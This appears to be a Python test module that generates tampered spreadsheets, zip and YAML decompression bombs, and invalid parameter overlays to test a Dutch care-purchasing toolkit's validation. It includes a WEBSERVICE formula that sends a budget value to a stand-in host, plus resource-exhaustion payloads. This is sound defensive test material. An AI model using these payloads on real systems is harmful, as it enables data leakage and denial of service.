"""Hostile files for the attack corpus (tests/test_attacks.py), made at test time: small on disk, seeded.

Each maker writes one file into a directory and returns its path. A filled template is tampered with
at the level of its zip parts or through openpyxl; spreadsheets that would blow up a reader are built
with streamed deflate, so a sheet that inflates to gigabytes is a few megabytes here.

    python tests/attacks.py DIR        # write the whole corpus into DIR (to look at it)
"""

from __future__ import annotations

import os
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

from openpyxl import Workbook, load_workbook
from openpyxl.workbook.defined_name import DefinedName

ROOT = Path(__file__).resolve().parents[1]


def filled(directory: Path, template: str = "staffel") -> Path:
    """An untouched filled template (the first provider of the bundled example inputs)."""
    out = directory / f"gevuld_{template}"
    if not out.exists():
        subprocess.run([sys.executable, "-m", "toolkit.cli", "fill", template,
                        str(ROOT / "examples" / "invoer" / f"{template}.csv"), "--out", str(out)], check=True,
                       capture_output=True)
    return next(p for p in sorted(out.glob("Voorbeeldzorg *.xlsx")))


def _edited(directory: Path, name: str, edit: Callable[[Workbook], None], *, keep_vba: bool = False) -> Path:
    wb = load_workbook(filled(directory), keep_vba=keep_vba)
    edit(wb)
    target = directory / name
    wb.save(target)
    return target


def _with_parts(directory: Path, name: str, parts: dict[str, bytes], source: Path | None = None) -> Path:
    """A copy of a filled template with extra or replaced zip parts."""
    target = directory / name
    with zipfile.ZipFile(source or filled(directory)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            if info.filename not in parts:
                new.writestr(info, old.read(info))
        for part, data in parts.items():
            new.writestr(part, data)
    return target


def sheet_part(archive: zipfile.ZipFile, title: str) -> str:
    """The zip part of the sheet named `title`."""
    import re

    workbook = archive.read("xl/workbook.xml").decode()
    rid = re.search(rf'<sheet [^>]*name="{title}"[^>]*r:id="([^"]+)"', workbook)
    assert rid is not None, title
    rels = archive.read("xl/_rels/workbook.xml.rels").decode()
    target = re.search(rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{rid.group(1)}"', rels) or re.search(
        rf'<Relationship [^>]*Id="{rid.group(1)}"[^>]*Target="([^"]+)"', rels)
    assert target is not None
    name = target.group(1).lstrip("/")
    return name if name.startswith("xl/") else f"xl/{name}"


def with_xml(directory: Path, name: str, edits: dict[str, Callable[[bytes], bytes]],
             added: dict[str, bytes] | None = None, source: Path | None = None) -> Path:
    """A copy of a filled template with parts changed by `edits` (keyed by part name, or by "sheet:Title")
    and parts `added`: the XML a hand editor or another program could write."""
    target = directory / name
    with zipfile.ZipFile(source or filled(directory)) as old:
        parts = {sheet_part(old, key[6:]) if key.startswith("sheet:") else key: edit for key, edit in edits.items()}
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
            for info in old.infolist():
                data = old.read(info)
                new.writestr(info, parts[info.filename](data) if info.filename in parts else data)
            for part, data in (added or {}).items():
                new.writestr(part, data)
    return target


def before(tag: bytes, fragment: bytes) -> Callable[[bytes], bytes]:
    """An edit that puts `fragment` before the first `tag` of a part (where the schema wants it)."""
    def edit(data: bytes) -> bytes:
        at = data.index(tag)
        return data[:at] + fragment + data[at:]
    return edit


def _repoint(wb: Workbook) -> None:
    wb.defined_names["calc_pct"] = DefinedName("calc_pct", attr_text="'Berekening'!$B$40")


def _extra_sheet(state: str) -> Callable[[Workbook], None]:
    def edit(wb: Workbook) -> None:
        wb.create_sheet("Extra").sheet_state = state
    return edit


def _set(sheet: str, ref: str, value: object) -> Callable[[Workbook], None]:
    def edit(wb: Workbook) -> None:
        wb[sheet][ref] = value
    return edit


def _drop_validation(wb: Workbook) -> None:
    wb["Invoer"].data_validations.dataValidation = wb["Invoer"].data_validations.dataValidation[1:]


def _unprotect(wb: Workbook) -> None:
    wb["Berekening"].protection.sheet = False


def _hide(wb: Workbook) -> None:
    wb["Berekening"].sheet_state = "hidden"


EXTERNAL_LINK = (b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/'
                 b'spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
                 b'2006/relationships" r:id="rId1"/></externalLink>')

# name -> (maker(directory) -> path, the kind of finding `check` must report)
TAMPERED: dict[str, tuple[Callable[[Path], Path], str]] = {
    "formula_in_empty_cell": (lambda d: _edited(d, "formule.xlsx", _set(
        "Uitkomst", "F30", '=WEBSERVICE("http://example.invalid/?"&in_aanvullend_budget)')), "formule"),
    "input_replaced_by_formula": (lambda d: _edited(d, "invoerformule.xlsx", _set("Invoer", "B9", "=B8*2")),
                                  "formule"),
    "calc_name_repointed": (lambda d: _edited(d, "naam.xlsx", _repoint), "naam"),
    "hidden_sheet_added": (lambda d: _edited(d, "verborgen.xlsx", _extra_sheet("hidden")), "werkmap"),
    "very_hidden_sheet_added": (lambda d: _edited(d, "zeerverborgen.xlsx", _extra_sheet("veryHidden")), "werkmap"),
    "template_sheet_hidden": (lambda d: _edited(d, "tabblad.xlsx", _hide), "werkmap"),
    "parameter_changed": (lambda d: _edited(d, "parameter.xlsx", _set("Bronnen", "D8", 0.99)), "parameter"),
    "validation_removed": (lambda d: _edited(d, "validatie.xlsx", _drop_validation), "instelling"),
    "protection_removed": (lambda d: _edited(d, "beveiliging.xlsx", _unprotect), "instelling"),
    "external_link": (lambda d: _with_parts(d, "koppeling.xlsx", {
        "xl/externalLinks/externalLink1.xml": EXTERNAL_LINK}), "onderdeel"),
    "macro_project_in_xlsx": (lambda d: _with_parts(d, "macro.xlsx", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 64}),
                              "onderdeel"),
    "macro_project_in_xlsm": (lambda d: _with_parts(d, "macro.xlsm", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 64}),
                              "onderdeel"),
    "picture": (lambda d: _with_parts(d, "plaatje.xlsx", {"xl/media/image1.png": b"\x89PNG\r\n\x1a\n" + b"0" * 64}),
                "onderdeel"),
    "ole_object": (lambda d: _with_parts(d, "ole.xlsx", {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
                   "onderdeel"),
    "connection": (lambda d: _with_parts(d, "verbinding.xlsx", {"xl/connections.xml": b"<connections/>"}),
                   "onderdeel"),
    "custom_xml": (lambda d: _with_parts(d, "customxml.xlsx", {"customXml/item1.xml": b"<x/>"}), "onderdeel"),
}


def whitespace_bomb(directory: Path, name: str = "witruimte.xlsx", gigabytes: float = 2.0,
                    source: Path | None = None) -> Path:
    """A workbook whose first sheet inflates to `gigabytes` of spaces: a few megabytes on disk."""
    source = source or filled(directory)
    target = directory / name
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info)
            if info.filename != "xl/worksheets/sheet1.xml":
                new.writestr(info, data)
                continue
            part = zipfile.ZipInfo(info.filename)
            part.compress_type = zipfile.ZIP_DEFLATED
            head, tail = data.split(b"<sheetData>", 1)
            with new.open(part, "w", force_zip64=True) as handle:
                handle.write(head + b"<sheetData>")
                block = b" " * (1 << 24)
                for _ in range(int(gigabytes * 64)):
                    handle.write(block)
                handle.write(tail)
    return target


def far_cell(directory: Path, name: str = "ver.xlsx", header: tuple[str, ...] = ("naam", "score_2026",
                                                                                  "aanvullend_budget")) -> Path:
    """A 2 KB workbook with one cell at XFD1048576: a reader that allocates the rectangle asks for terabytes."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(list(header))
    ws.append(["a", "A", 1000][: len(header)] + ["x"] * max(0, len(header) - 3))
    ws["XFD1048576"] = "x"
    target = directory / name
    wb.save(target)
    return target


def quoted_far_cell(directory: Path, name: str, quoting: str, source: Path | None = None) -> Path:
    """A workbook (an untouched filled template, or `source`) with one more cell at XFD1048576 whose
    reference is written as `quoting` says: `'` (r='XFD1048576'), ` ` (r = "XFD1048576") or `&`
    (r="&#88;FD1048576"): 11 KB that a bound reading only `r="…"` let through."""
    reference = {"'": "r='XFD1048576'", " ": 'r = "XFD1048576"', "&": 'r="&#88;FD1048576"'}[quoting]
    source = source or filled(directory)
    target = directory / name
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        first = _first_worksheet(old)
        for info in old.infolist():
            data = old.read(info)
            if info.filename == first:
                data = data.replace(b"</sheetData>", b'<row r="1048576"><c ' + reference.encode() +
                                    b' t="inlineStr"><is><t>x</t></is></c></row></sheetData>')
            new.writestr(info, data)
    return target


def _first_worksheet(archive: zipfile.ZipFile) -> str:
    return sorted(n for n in archive.namelist() if n.startswith("xl/worksheets/sheet"))[0]


def many_sheets(directory: Path, sheets: int = 12, cells: int = 499_900) -> Path:
    """A filled template with `sheets` extra sheets of `cells` cells each: every sheet under a per-sheet
    cap, the workbook far over any sane total. Written streamed: a few megabytes on disk."""
    source = filled(directory)
    target = directory / "veel_bladen.xlsx"
    per_row = 100
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        workbook = old.read("xl/workbook.xml")
        rels = old.read("xl/_rels/workbook.xml.rels")
        types = old.read("[Content_Types].xml")
        extra_sheets, extra_rels, extra_types = b"", b"", b""
        for n in range(sheets):
            extra_sheets += f'<sheet name="Extra{n}" sheetId="{100 + n}" r:id="rIdX{n}"/>'.encode()
            extra_rels += (f'<Relationship Id="rIdX{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                           f'relationships/worksheet" Target="worksheets/extra{n}.xml"/>').encode()
            extra_types += (f'<Override PartName="/xl/worksheets/extra{n}.xml" ContentType="application/vnd.'
                            'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>').encode()
        for info in old.infolist():
            data = old.read(info)
            if info.filename == "xl/workbook.xml":
                data = workbook.replace(b"</sheets>", extra_sheets + b"</sheets>")
            elif info.filename == "xl/_rels/workbook.xml.rels":
                data = rels.replace(b"</Relationships>", extra_rels + b"</Relationships>")
            elif info.filename == "[Content_Types].xml":
                data = types.replace(b"</Types>", extra_types + b"</Types>")
            new.writestr(info, data)
        for n in range(sheets):
            with new.open(f"xl/worksheets/extra{n}.xml", "w") as handle:
                handle.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                             b"<sheetData>")
                for row in range(1, cells // per_row + 1):
                    handle.write(f'<row r="{row}">'.encode() + b"".join(
                        b"<c><v>1</v></c>" for _ in range(per_row)) + b"</row>")
                handle.write(b"</sheetData></worksheet>")
    return target


def big_inputs(directory: Path, rows: int = 1_000_000) -> Path:
    """An INPUTS workbook for staffel of `rows` rows (each its own key, every score wrong), streamed:
    about 27 MB for a million rows."""
    target = directory / f"invoer_{rows}.xlsx"
    if target.exists():
        return target
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["naam", "score_2026", "aanvullend_budget"])
    plain = directory / "invoer_kop.xlsx"
    wb.save(plain)
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info)
            if info.filename != "xl/worksheets/sheet1.xml":
                new.writestr(info, data)
                continue
            head, tail = data.split(b"</row>", 1)
            with new.open(info.filename, "w", force_zip64=True) as handle:
                handle.write(head + b"</row>")
                block = []
                for row in range(2, rows + 2):
                    block.append(f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>k{row}</t></is></c>'
                                 f'<c r="B{row}" t="inlineStr"><is><t>Z</t></is></c><c r="C{row}"><v>1000</v></c>'
                                 "</row>")
                    if len(block) == 10_000:
                        handle.write("".join(block).encode())
                        block = []
                handle.write("".join(block).encode() + tail)  # tail: </sheetData> and what follows
    return target


def spanning(directory: Path, kind: str) -> Path:
    """A filled template with one merged range or hyperlink over the rest of a sheet: 17 billion cells
    that openpyxl would make one object each for."""
    fragment = {"samenvoegen": b'<mergeCells count="1"><mergeCell ref="D20:XFD1048576"/></mergeCells>',
                "koppeling": b'<hyperlinks><hyperlink ref="D20:XFD1048576" location="Bronnen!A1"/></hyperlinks>'}[kind]
    tag = b"<conditionalFormatting" if kind == "samenvoegen" else b"<pageMargins"
    return with_xml(directory, f"{kind}.xlsx", {"sheet:Uitkomst": before(tag, fragment)})


def inputs_bomb(directory: Path, gigabytes: float = 2.5, name: str = "invoer_bom.xlsx") -> Path:
    """An INPUTS workbook whose sheet inflates to `gigabytes` of spaces between two tags."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["naam", "score_2026", "aanvullend_budget"])
    plain = directory / "invoer_plat.xlsx"
    wb.save(plain)
    return whitespace_bomb(directory, name, gigabytes, source=plain)


# --- inputs ----------------------------------------------------------------------------------------------

CLAIM_COLUMNS = ("zorgaanbieder", "clientnummer", "postcode", "verzekeraar", "prestatiedatum", "prestatie", "bedrag")


def claims_parquet(directory: Path, column: str, *, index: str | None, empty: bool) -> Path:
    """The example claims of 2025 as Parquet (with `empty`, a few cells of `column` empty); with `index` that column is
    dictionary-encoded ("pandas": the smallest index type that fits, as pandas writes a `category`
    column; or "int32"), without it plain text."""
    import pyarrow as pa
    import pyarrow.compute as pc
    import pyarrow.csv as pacsv
    import pyarrow.parquet as pq

    table = pacsv.read_csv(ROOT / "examples" / "declaraties_2025.csv", parse_options=pacsv.ParseOptions(delimiter=";"),
                           convert_options=pacsv.ConvertOptions(column_types=dict.fromkeys(CLAIM_COLUMNS, pa.string())))
    values = table.column(column).combine_chunks()
    if empty:
        values = pc.if_else(pa.array([i % 997 == 5 for i in range(len(values))]), pa.scalar(None, pa.string()),
                            values)
    if index is not None:
        encoded = pc.dictionary_encode(values)
        if index == "pandas":
            distinct = len(encoded.dictionary)
            index = "int8" if distinct < 1 << 7 else "int16" if distinct < 1 << 15 else "int32"
        values = encoded.cast(pa.dictionary(getattr(pa, index)(), pa.string()))
    target = directory / f"declaraties_{column}_{index or 'tekst'}{'_leeg' if empty else ''}.parquet"
    pq.write_table(table.set_column(table.schema.get_field_index(column), column, values), target)
    return target


# --- parameter overlays ----------------------------------------------------------------------------------

def overlay(directory: Path, relative: str, parameter: str, value_yaml: str, year: int = 2027) -> Path:
    """An overlay directory whose `relative` topic file sets `parameter` for `year` to the YAML text given."""
    topic = Path(relative).stem
    path = directory / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"topic: {topic}\nparameters:\n  {parameter}:\n    values:\n      {year}:\n"
                    f"        value: {value_yaml}\n        source: {{document: eigen, section: test}}\n",
                    encoding="utf-8")
    return directory


def alias_bomb_overlay(directory: Path) -> Path:
    """Nine nested YAML aliases of ten items each: 644 bytes that stand for a billion values."""
    items = ["&a0 [x, x, x, x, x, x, x, x, x, x]"] + [
        f"&a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 9)]
    return overlay(directory, "cz/staffel.yaml", "min_cost_points_b", "[" + ", ".join(items) + "]")


# Hostile overlay values: (topic file, parameter, YAML value, what the message must name).
HOSTILE_VALUES = {
    "negative_threshold": ("cz/client_area_ratio.yaml", "threshold_existing", "-3", "threshold_existing"),
    "zero_threshold": ("cz/client_area_ratio.yaml", "threshold_existing", "0", "threshold_existing"),
    "claims_year_offset_huge": ("cz/client_area_ratio.yaml", "claims_year_offset", "1000000000000",
                                "claims_year_offset"),
    "share_above_one": ("cz/own_delivery.yaml", "min_own_share", "1.5", "min_own_share"),
    "staffel_percentage_negative": ("cz/staffel.yaml", "table",
                                    "[{condition: ceiling_free, percentage: -1}]", "percentage"),
    "month_13": ("cz/ceiling.yaml", "request_month", "13", "request_month"),
    "date_far_away": ("nza/nachtzorg.yaml", "follow_request_before", "1900-01-01", "follow_request_before"),
    "long_text_as_number": ("cz/staffel.yaml", "min_cost_points_b", "'" + "9" * 500_000 + "'", "min_cost_points_b"),
}


# --- outputs: a full disk, another command writing into the same folder ---------------------------------

# Runs `zorginkoop ARGS` with a disk that is full after BUDGET bytes written below DIR: every file opened
# for writing there fails with ENOSPC once the budget is spent, as a real full disk does (also when the
# writer closes it and flushes, which is where openpyxl's ZipFile printed its `__del__` traceback).
FULL_DISK = """
import builtins, errno, io, os, sys
directory, budget = os.path.realpath(sys.argv[1]), [int(sys.argv[2])]
real_open = io.open

class Full:
    def __init__(self, handle):
        self._handle = handle
    def write(self, data):
        budget[0] -= len(data)
        if budget[0] < 0:
            raise OSError(errno.ENOSPC, "No space left on device")
        return self._handle.write(data)
    def __getattr__(self, name):
        return getattr(self._handle, name)
    def __enter__(self):
        return self
    def __exit__(self, *exc):
        self._handle.close()

def limited_open(file, mode="r", *args, **kwargs):
    handle = real_open(file, mode, *args, **kwargs)
    inside = isinstance(file, (str, os.PathLike)) and os.path.realpath(file).startswith(directory + os.sep)
    return Full(handle) if inside and any(m in mode for m in "wax+") else handle

builtins.open = io.open = limited_open
sys.argv = ["zorginkoop", *sys.argv[3:]]
from toolkit.cli import main
main()
"""


def full_disk_command(directory: Path, budget: int, *args: str) -> list[str]:
    """The command line that runs `zorginkoop ARGS` on a disk that is full after `budget` bytes in `directory`."""
    return [sys.executable, "-c", FULL_DISK, str(directory), str(budget), *args]


# Writes `TARGET` the way `ratio --rapport` does (files.write_atomically), and waits inside the writer,
# its temporary file on disk, until the file GO exists: another command can run meanwhile.
SLOW_WRITER = """
import sys, time
from pathlib import Path
from toolkit.workbook.files import write_atomically
target, go = Path(sys.argv[1]), Path(sys.argv[2])

def write(tmp):
    tmp.write_bytes(b"rapport")
    print("bezig", flush=True)
    while not go.exists():
        time.sleep(0.02)

write_atomically(target, write)
print("klaar", flush=True)
"""


def slow_writer(target: Path, go: Path) -> subprocess.Popen[str]:
    """A process in the middle of writing `target` (its temporary file exists) until `go` appears."""
    process = subprocess.Popen([sys.executable, "-c", SLOW_WRITER, str(target), str(go)], stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert process.stdout is not None and process.stdout.readline().strip() == "bezig", process.stderr
    return process


def write_all(directory: Path) -> list[Path]:
    directory.mkdir(parents=True, exist_ok=True)
    made = [maker(directory) for maker, _ in TAMPERED.values()]
    return [*made, whitespace_bomb(directory), far_cell(directory), inputs_bomb(directory)]


if __name__ == "__main__":
    for path in write_all(Path(sys.argv[1])):
        print(path)
